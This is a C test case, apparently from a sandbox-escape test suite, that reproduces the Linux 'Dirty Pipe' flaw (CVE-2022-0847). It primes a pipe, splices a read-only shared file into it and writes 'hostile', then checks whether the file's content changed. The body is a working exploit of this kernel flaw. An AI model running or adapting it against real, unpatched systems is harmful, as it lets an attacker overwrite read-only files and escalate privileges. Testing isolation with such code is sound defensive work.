/* ---
class = "escape"
attempts = "write to the page cache of a read-only file through a pipe whose buffers may be merged"
must = "the file stays unchanged"
held_by = "the fix in the kernel (Linux 5.16.11)"
repeats = ["CVE-2022-0847 (Linux)"]
with = ["shared"]
--- */
#include "hostile.h"

static void attack(void)
{
    static char block[4096];
    int ends[2], fd = must(open("/shared/note", O_RDONLY));
    must(pipe(ends));
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= 4096)
        must(write(ends[1], block, 4096));
    for (int left = size; left > 0; left -= 4096)
        must(read(ends[0], block, 4096));
    loff_t at = 0;
    if (splice(fd, &at, ends[1], NULL, 1, 0) < 0 && errno == EINVAL)
        return; /* The profile prevents the attempt. */
    must(write(ends[1], "hostile", 7));
    char text[64] = "";
    must(file_read("/shared/note", text, sizeof text));
    if (strncmp(text, "untouched", 9) != 0)
        escaped("the note contains %s", text);
}
